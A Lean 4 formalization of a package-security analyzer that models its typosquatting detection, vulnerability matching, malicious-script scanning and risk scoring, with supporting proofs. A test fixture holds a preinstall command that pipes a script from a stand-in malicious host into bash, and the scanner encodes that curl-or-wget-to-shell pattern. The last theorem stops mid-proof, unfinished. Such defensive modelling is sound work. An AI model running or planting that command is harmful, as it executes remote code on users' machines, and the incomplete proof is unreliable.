import Mathlib

/-!
Verification development for the threatflux-package-security risk assessment
engine. The repository ships the core trait file src/core/package.rs (data
structures, analyzer traits with default accessor methods) together with its
integration test suite. The concrete detector and aggregator modules are not
part of the shipped sources, so those components are modelled from the
specification, as marked on each definition; the structures and default
methods present in src/core/package.rs are translated directly. Floating
point scores (f32 in the source) are embedded as exact rationals: every
constant the development manipulates (0.5, 5.0, 9.0, 10, 100, weight ratios)
is exactly representable, and only ordering and exact arithmetic on such
constants is relied upon.
-/

namespace ThreatFlux

/-- Modelled from the spec: the RiskLevel enumeration of section 3 lives in a
core module that is not among the shipped sources; only the trait file and the
tests refer to it. It is the totally ordered enumeration
Safe < Low < Medium < High < Critical. -/
inductive RiskLevel where
  | Safe
  | Low
  | Medium
  | High
  | Critical
deriving Repr, DecidableEq, Fintype

/-- Numeric rank of a risk level; the order on RiskLevel is the order of ranks. -/
def RiskLevel.toNat : RiskLevel → Nat
  | .Safe => 0
  | .Low => 1
  | .Medium => 2
  | .High => 3
  | .Critical => 4

instance : LT RiskLevel where
  lt a b := a.toNat < b.toNat

instance : LE RiskLevel where
  le a b := a.toNat ≤ b.toNat

instance (a b : RiskLevel) : Decidable (a < b) :=
  inferInstanceAs (Decidable (a.toNat < b.toNat))

instance (a b : RiskLevel) : Decidable (a ≤ b) :=
  inferInstanceAs (Decidable (a.toNat ≤ b.toNat))

/-- Larger of two risk levels, used by the aggregator override rule. -/
def RiskLevel.lub (a b : RiskLevel) : RiskLevel :=
  if a.toNat ≤ b.toNat then b else a

/-- Package quality metrics, translated from src/core/package.rs. -/
structure QualityMetrics where
  documentation_score : ℚ
  has_tests : Bool
  has_ci_cd : Bool
  maintenance_score : ℚ
deriving Repr, DecidableEq

/-- Default QualityMetrics, translated from the Default impl in
src/core/package.rs: (0.5, false, false, 0.5). -/
def QualityMetrics.default : QualityMetrics where
  documentation_score := 0.5
  has_tests := false
  has_ci_cd := false
  maintenance_score := 0.5

/-- Typosquatting risk assessment, translated from src/core/package.rs. -/
structure TyposquattingRisk where
  is_potential_typosquatting : Bool
  similar_packages : List String
  confidence_score : ℚ
deriving Repr, DecidableEq

/-- Basic package metadata, translated from src/core/package.rs. -/
structure PackageMetadata where
  name : String
  version : String
  description : Option String
  author : Option String
  license : Option String
  homepage : Option String
  repository : Option String
  keywords : List String
  publish_date : Option String
deriving Repr, DecidableEq

/-- Modelled from the spec: a known-vulnerability record (section 3); the
module producing it is not among the shipped sources. -/
structure Vulnerability where
  cve_id : String
  advisory_id : String
  description : String
  severity_score : ℚ
  affected_dependency : String
  affected_versions : List String
deriving Repr, DecidableEq

/-- Modelled from the spec: a malicious pattern finding (section 3); the
scanner module is not among the shipped sources. -/
structure MaliciousPattern where
  pattern_name : String
  description : String
  location : String
  weight : ℚ
deriving Repr, DecidableEq

/-- Modelled from the spec: dependency kind tag (runtime, dev, optional). -/
inductive DepKind where
  | runtime
  | dev
  | optionalDep
deriving Repr, DecidableEq

/-- Modelled from the spec: a declared dependency reference
(name, version constraint, kind). -/
structure Dependency where
  name : String
  version : String
  kind : DepKind
deriving Repr, DecidableEq

/-- Modelled from the spec: the DependencyAnalysis record (section 3). -/
structure DependencyAnalysis where
  dependencies : List Dependency
  resolved_depth : Nat
  breadth : Nat
deriving Repr, DecidableEq

/-- Modelled from the spec: one vulnerability feed entry (section 6): given a
package name, the feed lists affected versions with advisory id, CVE id,
severity and description. -/
structure Advisory where
  package_name : String
  affected_versions : List String
  cve_id : String
  advisory_id : String
  severity : Option ℚ
  description : String
deriving Repr, DecidableEq

/-- Modelled from the spec: RiskScore maps named risk components to numeric
scores (a hash map in the source, embedded as an association list with
distinct keys) plus the discretized risk level. -/
structure RiskScore where
  components : List (String × ℚ)
  risk_level : RiskLevel
deriving Repr, DecidableEq

/-- Modelled from the spec: the RiskAssessment record carrying the RiskScore. -/
structure RiskAssessment where
  risk_score : RiskScore
deriving Repr, DecidableEq

/-- Analysis options, translated from src/core/package.rs. -/
structure AnalysisOptions where
  analyze_dependencies : Bool
  check_vulnerabilities : Bool
  scan_malicious_patterns : Bool
  detect_typosquatting : Bool
  max_dependency_depth : Nat
  timeout_seconds : Nat
deriving Repr, DecidableEq

/-- Default analysis options, translated from the Default impl in
src/core/package.rs. -/
def AnalysisOptions.default : AnalysisOptions where
  analyze_dependencies := true
  check_vulnerabilities := true
  scan_malicious_patterns := true
  detect_typosquatting := true
  max_dependency_depth := 5
  timeout_seconds := 300

/-- Modelled from the spec: the normalized package description produced by
manifest ingestion (section 6): ecosystem tag, metadata, declared
dependencies, and the scannable lifecycle or setup script texts as
(location, body) pairs. -/
structure PackageDesc where
  package_type : String
  metadata : PackageMetadata
  dependencies : List Dependency
  scripts : List (String × String)
deriving Repr, DecidableEq

/-- Modelled from the spec: the AnalysisResult record (section 3) aggregating
every analysis output; the trait in src/core/package.rs enumerates exactly
these accessors. -/
structure AnalysisResult where
  package_info : PackageDesc
  risk_assessment : RiskAssessment
  dependency_analysis : DependencyAnalysis
  vulnerabilities : List Vulnerability
  malicious_patterns : List MaliciousPattern
  typosquatting_risk : Option TyposquattingRisk
  quality_metrics : QualityMetrics
deriving Repr, DecidableEq

/-- Overall risk level accessor, translated from the default method in
src/core/package.rs: reads risk_score.risk_level of the assessment. -/
def AnalysisResult.overall_risk_level (r : AnalysisResult) : RiskLevel :=
  r.risk_assessment.risk_score.risk_level

/-- Malicious indicators accessor, translated from the default method in
src/core/package.rs: returns the malicious pattern list. -/
def AnalysisResult.malicious_indicators (r : AnalysisResult) : List MaliciousPattern :=
  r.malicious_patterns

/-- First-match lookup in a component mapping, mirroring HashMap get on the
String keys of RiskScore.components. -/
def lookupComponent : List (String × ℚ) → String → Option ℚ
  | [], _ => none
  | kv :: rest, key => if kv.1 = key then some kv.2 else lookupComponent rest key

/-- Supply chain risk score accessor, translated from the default method in
src/core/package.rs: components.get of the supply_chain key, copied,
unwrap_or 0.0. -/
def AnalysisResult.supply_chain_risk_score (r : AnalysisResult) : ℚ :=
  (lookupComponent r.risk_assessment.risk_score.components "supply_chain").getD 0

/-- Boolean test that a character list starts with the given pattern. -/
def startsWithSeq : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | p :: ps, c :: cs => p == c && startsWithSeq ps cs

/-- Boolean test that a character list contains the given pattern as a
contiguous subsequence. -/
def hasSeq (pat : List Char) : List Char → Bool
  | [] => pat.isEmpty
  | c :: cs => startsWithSeq pat (c :: cs) || hasSeq pat cs

/-- Boolean test that string s contains string pat as a substring. -/
def containsText (s pat : String) : Bool :=
  hasSeq pat.data s.data

/-- Modelled from the spec: the remote fetch-and-execute detector of the
Malicious Pattern Scanner (section 4.3), a structural match for a network
download piped into a shell interpreter; the scanner module is not among the
shipped sources. -/
def fetchThenExec (script : String) : Bool :=
  (containsText script "http://" || containsText script "https://") &&
    (containsText script "curl" || containsText script "wget") &&
    (containsText script "| bash" || containsText script "| sh" ||
      containsText script "|bash" || containsText script "|sh")

/-- Modelled from the spec: the severity weight marking a Critical pattern
(section 4.5): one such finding forces the overall level to at least High. -/
def criticalPatternWeight : ℚ := 100

/-- Modelled from the spec: deduplication of scanner firings by
(pattern_name, location), keeping the first firing for each key. -/
def dedupPatterns (seen : List (String × String)) :
    List MaliciousPattern → List MaliciousPattern
  | [] => []
  | p :: ps =>
    if seen.contains (p.pattern_name, p.location) then dedupPatterns seen ps
    else p :: dedupPatterns ((p.pattern_name, p.location) :: seen) ps

/-- Modelled from the spec: the Malicious Pattern Scanner (section 4.3)
applied to the scannable (location, body) script texts; a fetch-then-execute
match fires the remote-code-exec detector at Critical weight, and firings are
deduplicated by (pattern_name, location). -/
def scanScripts (scripts : List (String × String)) : List MaliciousPattern :=
  dedupPatterns [] (scripts.filterMap (fun s =>
    if fetchThenExec s.2 then
      some { pattern_name := "remote-code-exec"
             description := "network download piped into a shell interpreter"
             location := s.1
             weight := criticalPatternWeight }
    else none))

/-- Levenshtein row update: given one character of the first word, the second
word, the previous distance row and the already computed first entry of the
next row, produce the next row. -/
def levRow (x : Char) : List Char → List Nat → Nat → List Nat
  | y :: ys, p0 :: p1 :: ps, d =>
    levRow x ys (p1 :: ps) (min (p0 + (if x == y then 0 else 1)) (min (p1 + 1) (d + 1))) |>.cons d
  | _, _, d => [d]

/-- Levenshtein edit distance between two character lists, computed row by
row. -/
def levenshtein (a b : List Char) : Nat :=
  (a.foldl
    (fun row x =>
      match row with
      | p0 :: _ => levRow x b row (p0 + 1)
      | [] => [])
    (List.range (b.length + 1))).getLastD 0

/-- Larger of two rationals, written out so it evaluates by cases on the
decidable order. -/
def ratMax (a b : ℚ) : ℚ := if a ≤ b then b else a

/-- Smaller of two rationals, written out so it evaluates by cases on the
decidable order. -/
def ratMin (a b : ℚ) : ℚ := if a ≤ b then a else b

/-- Modelled from the spec: normalized similarity between two names
(section 4.4): one minus the edit distance divided by the longer length m,
written as the ratio (m - d) / m, clamped below at zero so the score stays in
the documented 0 to 1 range. -/
def similarity (a b : String) : ℚ :=
  let m := Nat.max a.data.length b.data.length
  if m = 0 then 1
  else ratMax 0 (mkRat ((m : Int) - (levenshtein a.data b.data : Int)) m)

/-- Modelled from the spec: the similarity cutoff of the Typosquatting
Detector (section 4.4), three quarters. -/
def typoThreshold : ℚ := mkRat 3 4

/-- Insertion into a list sorted by descending key. -/
def insertDesc (key : String → ℚ) (x : String) : List String → List String
  | [] => [x]
  | y :: ys => if key y ≤ key x then x :: y :: ys else y :: insertDesc key x ys

/-- Insertion sort by descending key. -/
def sortDesc (key : String → ℚ) : List String → List String
  | [] => []
  | x :: xs => insertDesc key x (sortDesc key xs)

/-- Modelled from the spec: the candidate collection of the Typosquatting
Detector (section 4.4): corpus entries distinct from the candidate name whose
similarity clears the threshold, ordered most similar first. -/
def typoCandidates (name : String) (corpus : List String) : List String :=
  sortDesc (similarity name)
    (corpus.filter (fun c => c != name && decide (typoThreshold ≤ similarity name c)))

/-- Modelled from the spec: the Typosquatting Detector (section 4.4): an exact
corpus match short-circuits to not typosquatting; otherwise the flag is set
iff a candidate cleared the threshold, and the confidence is the top
similarity. -/
def detectTyposquatting (name : String) (corpus : List String) : TyposquattingRisk :=
  if name ∈ corpus then
    { is_potential_typosquatting := false, similar_packages := [], confidence_score := 0 }
  else
    { is_potential_typosquatting := !(typoCandidates name corpus).isEmpty
      similar_packages := typoCandidates name corpus
      confidence_score :=
        match typoCandidates name corpus with
        | [] => 0
        | c :: _ => similarity name c }

/-- Deduplication of vulnerability matches by (cve_id, advisory_id), keeping
the first match for each key. -/
def dedupVulns (seen : List (String × String)) :
    List Vulnerability → List Vulnerability
  | [] => []
  | v :: vs =>
    if seen.contains (v.cve_id, v.advisory_id) then dedupVulns seen vs
    else v :: dedupVulns ((v.cve_id, v.advisory_id) :: seen) vs

/-- Modelled from the spec: the Vulnerability Matcher (section 4.2) restricted
to exactly pinned versions: a dependency matches a feed advisory when the
names agree and the pinned version is listed as affected; each match yields
one Vulnerability per advisory, severity passed through unchanged with a
default of 5.0 when the feed supplies none, deduplicated by advisory key. -/
def matchVulnerabilities (deps : List Dependency) (feed : List Advisory) :
    List Vulnerability :=
  dedupVulns [] (deps.flatMap (fun dep =>
    (feed.filter (fun adv =>
        adv.package_name == dep.name && adv.affected_versions.contains dep.version)).map
      (fun adv =>
        { cve_id := adv.cve_id
          advisory_id := adv.advisory_id
          description := adv.description
          severity_score := adv.severity.getD 5
          affected_dependency := dep.name
          affected_versions := adv.affected_versions })))

/-- Modelled from the spec: the Dependency Analyzer (section 4.1) restricted
to the declared direct level, the transitive resolver being an external
collaborator: the dependency list is the declared one, resolved depth is the
walked level bounded by the configured maximum, and breadth counts distinct
dependency names. -/
def analyzeDeps (deps : List Dependency) (maxDepth : Nat) : DependencyAnalysis where
  dependencies := deps
  resolved_depth := min 1 maxDepth
  breadth := (deps.map (fun d => d.name)).dedup.length

/-- Empty dependency analysis used when dependency analysis is gated off. -/
def emptyDepAnalysis : DependencyAnalysis where
  dependencies := []
  resolved_depth := 0
  breadth := 0

/-- Clamp of a raw component score into the documented 0 to 100 range
(section 4.5 requires each component independently in that range). -/
def clampScore (x : ℚ) : ℚ := ratMin 100 (ratMax 0 x)

/-- Largest severity among matched vulnerabilities, zero when none. -/
def maxSeverity : List Vulnerability → ℚ
  | [] => 0
  | v :: vs => ratMax v.severity_score (maxSeverity vs)

/-- Modelled from the spec: the vulnerability component (section 4.2) is the
maximum severity found rescaled to 0 to 100. -/
def vulnerabilityScore (vulns : List Vulnerability) : ℚ :=
  clampScore (10 * maxSeverity vulns)

/-- Modelled from the spec: the malicious-code component (section 4.3) is the
sum of firing severity weights capped at 100. -/
def maliciousScore (pats : List MaliciousPattern) : ℚ :=
  clampScore ((pats.map (fun p => p.weight)).sum)

/-- Modelled from the spec: the supply-chain component (section 4.1) grows
with dependency breadth and stays within 0 to 100. -/
def supplyChainScore (breadth : Nat) : ℚ :=
  clampScore (5 * breadth)

/-- Modelled from the spec: the typosquatting component (section 4.4) is the
confidence times 100 when flagged, else zero. -/
def typosquattingScore : Option TyposquattingRisk → ℚ
  | none => 0
  | some t =>
    if t.is_potential_typosquatting then clampScore (t.confidence_score * 100) else 0

/-- Modelled from the spec: the weighted combination of the Risk Aggregator
(section 4.5), malicious code and vulnerabilities weighted highest. -/
def overallScore (sc v mc t : ℚ) : ℚ :=
  (35 * mc + 35 * v + 15 * sc + 15 * t) / 100

/-- Modelled from the spec: discretization of the overall score into a
RiskLevel by the fixed thresholds of section 4.5. -/
def scoreToLevel (s : ℚ) : RiskLevel :=
  if s < 20 then .Safe
  else if s < 40 then .Low
  else if s < 60 then .Medium
  else if s < 80 then .High
  else .Critical

/-- Modelled from the spec: the override test of section 4.5: a vulnerability
of severity at least 9.0 or a Critical-weight malicious pattern is a Critical
individual finding. -/
def hasCriticalFinding (vulns : List Vulnerability) (pats : List MaliciousPattern) : Bool :=
  vulns.any (fun v => decide ((9 : ℚ) ≤ v.severity_score)) ||
    pats.any (fun p => decide (criticalPatternWeight ≤ p.weight))

/-- Modelled from the spec: the Risk Aggregator (section 4.5): clamped
component scores, weighted overall score discretized by thresholds, and the
override clamp raising the level to at least High on any Critical finding. -/
def aggregate (dep : DependencyAnalysis) (vulns : List Vulnerability)
    (pats : List MaliciousPattern) (typo : Option TyposquattingRisk) : RiskAssessment :=
  let sc := supplyChainScore dep.breadth
  let v := vulnerabilityScore vulns
  let mc := maliciousScore pats
  let t := typosquattingScore typo
  let base := scoreToLevel (overallScore sc v mc t)
  { risk_score :=
      { components :=
          [("supply_chain", sc), ("vulnerability", v),
            ("malicious_code", mc), ("typosquatting", t)]
        risk_level := if hasCriticalFinding vulns pats then RiskLevel.lub .High base else base } }

/-- Modelled from the spec: the outcome of manifest ingestion (section 6),
an external collaborator: the analyzed path is missing, holds no recognizable
manifest, holds a manifest that fails to parse, or yields a normalized
package description. -/
inductive ManifestIngestion where
  | pathMissing
  | noManifest
  | parseFailure
  | parsed (pkg : PackageDesc)
deriving Repr, DecidableEq

/-- Modelled from the spec: the fatal error taxonomy of section 7. -/
inductive AnalyzeError where
  | pathNotFound
  | noManifestFound
  | manifestParseFailure
deriving Repr, DecidableEq

/-- Modelled from the spec: the dependency stage of the orchestrator, gated by
the analyze_dependencies option (section 4.6). -/
def depPart (pkg : PackageDesc) (opts : AnalysisOptions) : DependencyAnalysis :=
  if opts.analyze_dependencies then
    analyzeDeps pkg.dependencies opts.max_dependency_depth
  else emptyDepAnalysis

/-- Modelled from the spec: the vulnerability stage of the orchestrator, run
on the dependency stage output and gated by its option (section 4.6). -/
def vulnPart (pkg : PackageDesc) (opts : AnalysisOptions) (feed : List Advisory) :
    List Vulnerability :=
  if opts.analyze_dependencies && opts.check_vulnerabilities then
    matchVulnerabilities (depPart pkg opts).dependencies feed
  else []

/-- Modelled from the spec: the malicious pattern stage of the orchestrator,
gated by its option (section 4.6). -/
def patsPart (pkg : PackageDesc) (opts : AnalysisOptions) : List MaliciousPattern :=
  if opts.scan_malicious_patterns then scanScripts pkg.scripts else []

/-- Modelled from the spec: the typosquatting stage of the orchestrator, gated
by its option (section 4.6). -/
def typoPart (pkg : PackageDesc) (opts : AnalysisOptions) (corpus : List String) :
    Option TyposquattingRisk :=
  if opts.detect_typosquatting then
    some (detectTyposquatting pkg.metadata.name corpus)
  else none

/-- Modelled from the spec: the detector pipeline of the Analyzer Orchestrator
(section 4.6) on a successfully ingested package: each detector runs iff its
option gates it on and contributes its default or empty output otherwise;
the quality accessor in src/core/package.rs always returns the default
metrics; everything fans into the aggregator. -/
def runAnalysis (pkg : PackageDesc) (opts : AnalysisOptions)
    (feed : List Advisory) (corpus : List String) : AnalysisResult where
  package_info := pkg
  risk_assessment := aggregate (depPart pkg opts) (vulnPart pkg opts feed)
    (patsPart pkg opts) (typoPart pkg opts corpus)
  dependency_analysis := depPart pkg opts
  vulnerabilities := vulnPart pkg opts feed
  malicious_patterns := patsPart pkg opts
  typosquatting_risk := typoPart pkg opts corpus
  quality_metrics := QualityMetrics.default

/-- Modelled from the spec: the Analyzer Orchestrator entry point
(section 4.6): fatal errors exactly for a missing path, a missing manifest or
a manifest parse failure, and a fully populated AnalysisResult otherwise. -/
def analyze (inp : ManifestIngestion) (opts : AnalysisOptions)
    (feed : List Advisory) (corpus : List String) :
    Except AnalyzeError AnalysisResult :=
  match inp with
  | .pathMissing => .error .pathNotFound
  | .noManifest => .error .noManifestFound
  | .parseFailure => .error .manifestParseFailure
  | .parsed pkg => .ok (runAnalysis pkg opts feed corpus)

/-- Range predicate on an optional feed severity: when present it is a
CVSS-like value between 0 and 10. -/
def severityInRange : Option ℚ → Prop
  | none => True
  | some s => 0 ≤ s ∧ s ≤ 10

instance (o : Option ℚ) : Decidable (severityInRange o) :=
  match o with
  | none => Decidable.isTrue trivial
  | some s => inferInstanceAs (Decidable (0 ≤ s ∧ s ≤ 10))

/-- Well-formedness of a vulnerability feed snapshot, following the feed
contract of section 6: every advisory carries a CVE id or an advisory id, a
description, and an in-range severity when one is supplied. -/
def WellFormedFeed (feed : List Advisory) : Prop :=
  ∀ adv ∈ feed,
    (adv.cve_id ≠ "" ∨ adv.advisory_id ≠ "") ∧ adv.description ≠ "" ∧
      severityInRange adv.severity

instance (feed : List Advisory) : Decidable (WellFormedFeed feed) :=
  inferInstanceAs (Decidable (∀ adv ∈ feed,
    (adv.cve_id ≠ "" ∨ adv.advisory_id ≠ "") ∧ adv.description ≠ "" ∧
      severityInRange adv.severity))

/-- Sample metadata for concrete evaluation of the development. -/
def sampleMetadata (n : String) : PackageMetadata where
  name := n
  version := "1.0.0"
  description := none
  author := none
  license := none
  homepage := none
  repository := none
  keywords := []
  publish_date := none

/-- Sample npm package declaring a lifecycle script that downloads a script
over HTTP and pipes it into a shell, mirroring the suspicious package of the
test suite. -/
def suspiciousPkg : PackageDesc where
  package_type := "npm"
  metadata := sampleMetadata "suspicious-test-package"
  dependencies := [{ name := "express", version := "4.18.0", kind := .runtime }]
  scripts := [("preinstall", "curl -s http://malicious.com/script.sh | bash")]

/-- Sample package pinned to a vulnerable dependency version. -/
def vulnPkg : PackageDesc where
  package_type := "npm"
  metadata := sampleMetadata "critical-vuln-package"
  dependencies := [{ name := "lodash", version := "4.0.0", kind := .runtime }]
  scripts := []

/-- Sample feed snapshot listing one advisory for the pinned version. -/
def sampleFeed : List Advisory :=
  [{ package_name := "lodash"
     affected_versions := ["4.0.0"]
     cve_id := "CVE-2019-10744"
     advisory_id := "GHSA-jf85-cpcp-j695"
     severity := some (mkRat 91 10)
     description := "prototype pollution in defaultsDeep" }]

/-- Sample options with every detector gated off. -/
def allOffOptions : AnalysisOptions where
  analyze_dependencies := false
  check_vulnerabilities := false
  scan_malicious_patterns := false
  detect_typosquatting := false
  max_dependency_depth := 0
  timeout_seconds := 300

/-- Sample analysis result with an explicit supply chain component. -/
def sampleResult : AnalysisResult where
  package_info := vulnPkg
  risk_assessment :=
    { risk_score := { components := [("supply_chain", 55)], risk_level := .Low } }
  dependency_analysis := emptyDepAnalysis
  vulnerabilities := []
  malicious_patterns := []
  typosquatting_risk := none
  quality_metrics := QualityMetrics.default

/-- The first argument bounds ratMax from below. -/
theorem ratMax_left_le (a b : ℚ) : a ≤ ratMax a b := by
  rw [ratMax]
  split
  · assumption
  · exact le_refl a

/-- The first argument bounds ratMin from above. -/
theorem ratMin_le_left (a b : ℚ) : ratMin a b ≤ a := by
  rw [ratMin]
  split
  · exact le_refl a
  · exact le_of_not_le (by assumption)

/-- Clamped scores are nonnegative. -/
theorem clampScore_nonneg (x : ℚ) : 0 ≤ clampScore x := by
  rw [clampScore, ratMin]
  split
  · norm_num
  · exact ratMax_left_le 0 x

/-- Clamped scores are at most 100. -/
theorem clampScore_le_hundred (x : ℚ) : clampScore x ≤ 100 :=
  ratMin_le_left _ _

/-- The typosquatting component is within the 0 to 100 range. -/
theorem typosquattingScore_bounds (t : Option TyposquattingRisk) :
    0 ≤ typosquattingScore t ∧ typosquattingScore t ≤ 100 := by
  cases t with
  | none => simp [typosquattingScore]
  | some t =>
    rw [typosquattingScore]
    split
    · exact ⟨clampScore_nonneg _, clampScore_le_hundred _⟩
    · norm_num

/-- Deduplicated patterns come from the original firing list. -/
theorem mem_of_mem_dedupPatterns {p : MaliciousPattern} :
    ∀ {seen : List (String × String)} {l : List MaliciousPattern},
      p ∈ dedupPatterns seen l → p ∈ l := by
  intro seen l
  induction l generalizing seen with
  | nil => intro h; exact h
  | cons q qs ih =>
    intro h
    rw [dedupPatterns] at h
    split at h
    · exact List.mem_cons_of_mem _ (ih h)
    · rcases List.mem_cons.mp h with h | h
      · exact h ▸ List.mem_cons_self _ _
      · exact List.mem_cons_of_mem _ (ih h)

/-- Deduplication with nothing seen keeps a nonempty list nonempty. -/
theorem dedupPatterns_ne_nil {l : List MaliciousPattern} (h : l ≠ []) :
    dedupPatterns [] l ≠ [] := by
  cases l with
  | nil => exact absurd rfl h
  | cons p ps => simp [dedupPatterns]

/-- Every pattern the scanner emits carries the Critical weight. -/
theorem weight_of_mem_scanScripts {scripts : List (String × String)}
    {p : MaliciousPattern} (h : p ∈ scanScripts scripts) :
    p.weight = criticalPatternWeight := by
  rcases List.mem_filterMap.mp (mem_of_mem_dedupPatterns h) with ⟨s, _, hs⟩
  split at hs
  · cases hs; rfl
  · exact absurd hs (by simp)

/-- A script matching the fetch-then-execute detector makes the scanner
output nonempty. -/
theorem scanScripts_ne_nil {scripts : List (String × String)} {s : String × String}
    (hmem : s ∈ scripts) (hf : fetchThenExec s.2 = true) :
    scanScripts scripts ≠ [] := by
  apply dedupPatterns_ne_nil
  intro hnil
  rw [List.filterMap_eq_nil_iff] at hnil
  have := hnil s hmem
  rw [hf] at this
  simp at this

/-- Membership through descending insertion. -/
theorem mem_insertDesc (key : String → ℚ) (x a : String) (l : List String) :
    a ∈ insertDesc key x l ↔ a = x ∨ a ∈ l := by
  induction l with
  | nil => simp [insertDesc]
  | cons y ys ih =>
    rw [insertDesc]
    split
    · simp [List.mem_cons]
    · simp only [List.mem_cons, ih]; tauto

/-- Membership through descending insertion sort. -/
theorem mem_sortDesc (key : String → ℚ) (a : String) (l : List String) :
    a ∈ sortDesc key l ↔ a ∈ l := by
  induction l with
  | nil => simp [sortDesc]
  | cons x xs ih =>
    rw [sortDesc, mem_insertDesc]
    simp only [List.mem_cons, ih]

/-- Deduplicated vulnerabilities come from the original match list. -/
theorem mem_of_mem_dedupVulns {v : Vulnerability} :
    ∀ {seen : List (String × String)} {l : List Vulnerability},
      v ∈ dedupVulns seen l → v ∈ l := by
  intro seen l
  induction l generalizing seen with
  | nil => intro h; exact h
  | cons q qs ih =>
    intro h
    rw [dedupVulns] at h
    split at h
    · exact List.mem_cons_of_mem _ (ih h)
    · rcases List.mem_cons.mp h with h | h
      · exact h ▸ List.mem_cons_self _ _
      · exact List.mem_cons_of_mem _ (ih h)

/-- Vulnerability deduplication with nothing seen keeps a nonempty list
nonempty. -/
theorem dedupVulns_ne_nil {l : List Vulnerability} (h : l ≠ []) :
    dedupVulns [] l ≠ [] := by
  cases l with
  | nil => exact absurd rfl h
  | cons v vs => simp [dedupVulns]

/-- Every matched vulnerability copies its fields from some feed advisory,
severity defaulting to 5. -/
theorem mem_matchVulnerabilities {deps : List Dependency} {feed : List Advisory}
    {v : Vulnerability} (h : v ∈ matchVulnerabilities deps feed) :
    ∃ adv ∈ feed, v.cve_id = adv.cve_id ∧ v.advisory_id = adv.advisory_id ∧
      v.description = adv.description ∧ v.severity_score = adv.severity.getD 5 := by
  rcases List.mem_flatMap.mp (mem_of_mem_dedupVulns h) with ⟨dep, _, hv⟩
  rcases List.mem_map.mp hv with ⟨adv, hadv, heq⟩
  exact ⟨adv, (List.mem_filter.mp hadv).1, by rw [← heq]; exact ⟨rfl, rfl, rfl, rfl⟩⟩

/-- A dependency pinned to a version the feed lists as affected yields a
nonempty match list. -/
theorem matchVulnerabilities_ne_nil {deps : List Dependency} {feed : List Advisory}
    {dep : Dependency} {adv : Advisory} (hdep : dep ∈ deps) (hadv : adv ∈ feed)
    (hname : adv.package_name = dep.name) (hver : dep.version ∈ adv.affected_versions) :
    matchVulnerabilities deps feed ≠ [] := by
  apply dedupVulns_ne_nil
  apply List.ne_nil_of_mem (a :=
    { cve_id := adv.cve_id
      advisory_id := adv.advisory_id
      description := adv.description
      severity_score := adv.severity.getD 5
      affected_dependency := dep.name
      affected_versions := adv.affected_versions })
  apply List.mem_flatMap.mpr
  refine ⟨dep, hdep, List.mem_map.mpr ⟨adv, List.mem_filter.mpr ⟨hadv, ?_⟩, rfl⟩⟩
  simp [hname, hver]

/-- Risk level components of an aggregated assessment, by unfolding. -/
theorem aggregate_components (dep : DependencyAnalysis) (vulns : List Vulnerability)
    (pats : List MaliciousPattern) (typo : Option TyposquattingRisk) :
    (aggregate dep vulns pats typo).risk_score.components =
      [("supply_chain", supplyChainScore dep.breadth),
        ("vulnerability", vulnerabilityScore vulns),
        ("malicious_code", maliciousScore pats),
        ("typosquatting", typosquattingScore typo)] := rfl

/-- Risk level of an aggregated assessment, by unfolding. -/
theorem aggregate_risk_level (dep : DependencyAnalysis) (vulns : List Vulnerability)
    (pats : List MaliciousPattern) (typo : Option TyposquattingRisk) :
    (aggregate dep vulns pats typo).risk_score.risk_level =
      (if hasCriticalFinding vulns pats then
        RiskLevel.lub .High (scoreToLevel (overallScore (supplyChainScore dep.breadth)
          (vulnerabilityScore vulns) (maliciousScore pats) (typosquattingScore typo)))
      else scoreToLevel (overallScore (supplyChainScore dep.breadth)
        (vulnerabilityScore vulns) (maliciousScore pats) (typosquattingScore typo))) := rfl

/-- Every risk level is below the join with anything else. -/
theorem riskLevel_le_lub : ∀ a b : RiskLevel, a ≤ RiskLevel.lub a b := by decide

/-- Lookup misses exactly when the mapping holds no entry for the key. -/
theorem lookupComponent_eq_none {comps : List (String × ℚ)} {k : String}
    (h : ∀ v : ℚ, (k, v) ∉ comps) : lookupComponent comps k = none := by
  induction comps with
  | nil => rfl
  | cons kv rest ih =>
    rw [lookupComponent]
    split
    · rename_i hk
      exact absurd (show (k, kv.2) ∈ kv :: rest by rw [← hk]; exact List.mem_cons_self _ _)
        (h kv.2)
    · exact ih (fun v hv => h v (List.mem_cons_of_mem _ hv))

/-- Lookup finds the value of a present entry when the keys are distinct. -/
theorem lookupComponent_eq_of_mem {comps : List (String × ℚ)} {k : String} {v : ℚ}
    (hnd : (comps.map Prod.fst).Nodup) (hmem : (k, v) ∈ comps) :
    lookupComponent comps k = some v := by
  induction comps with
  | nil => simp at hmem
  | cons kv rest ih =>
    rw [List.map_cons, List.nodup_cons] at hnd
    rw [lookupComponent]
    rcases List.mem_cons.mp hmem with h | h
    · rw [← h]
      simp
    · split
      · rename_i hk
        exact absurd (hk ▸ List.mem_map_of_mem Prod.fst h) hnd.1
      · exact ih hnd.2 h

/-- Well-formed feed data makes every vulnerability the orchestrator emits
carry an identifier, a description and an in-range severity. -/
theorem vulnPart_invariants {pkg : PackageDesc} {opts : AnalysisOptions}
    {feed : List Advisory} (hwf : WellFormedFeed feed) :
    ∀ v ∈ vulnPart pkg opts feed,
      (v.cve_id ≠ "" ∨ v.advisory_id ≠ "") ∧ v.description ≠ "" ∧
        0 ≤ v.severity_score ∧ v.severity_score ≤ 10 := by
  intro v hv
  rw [vulnPart] at hv
  split at hv
  · rcases mem_matchVulnerabilities hv with ⟨adv, hadv, h1, h2, h3, h4⟩
    rcases hwf adv hadv with ⟨hid, hdesc, hsev⟩
    have hrange : 0 ≤ v.severity_score ∧ v.severity_score ≤ 10 := by
      rw [h4]
      cases hs : adv.severity with
      | none => exact ⟨by norm_num, by norm_num⟩
      | some s =>
        rw [hs] at hsev
        exact hsev
    exact ⟨by rw [h1, h2]; exact hid, by rw [h3]; exact hdesc, hrange.1, hrange.2⟩
  · exact absurd hv (by simp)

/-- C1: for every package whose manifest declares a lifecycle script
containing a network-fetch-then-execute pattern (downloading a script over
HTTP and piping it into a shell interpreter), analyze returns a result with
at least one MaliciousPattern finding and an overall risk level at least
High, provided malicious pattern scanning is not gated off. -/
theorem malicious_script_detection (pkg : PackageDesc) (opts : AnalysisOptions)
    (feed : List Advisory) (corpus : List String) (r : AnalysisResult)
    (s : String × String) (hmem : s ∈ pkg.scripts) (hf : fetchThenExec s.2 = true)
    (hscan : opts.scan_malicious_patterns = true)
    (hr : analyze (.parsed pkg) opts feed corpus = .ok r) :
    r.malicious_patterns ≠ [] ∧ RiskLevel.High ≤ r.overall_risk_level := by
  have hre : runAnalysis pkg opts feed corpus = r := by simpa [analyze] using hr
  subst hre
  have hpats : patsPart pkg opts = scanScripts pkg.scripts := by
    simp [patsPart, hscan]
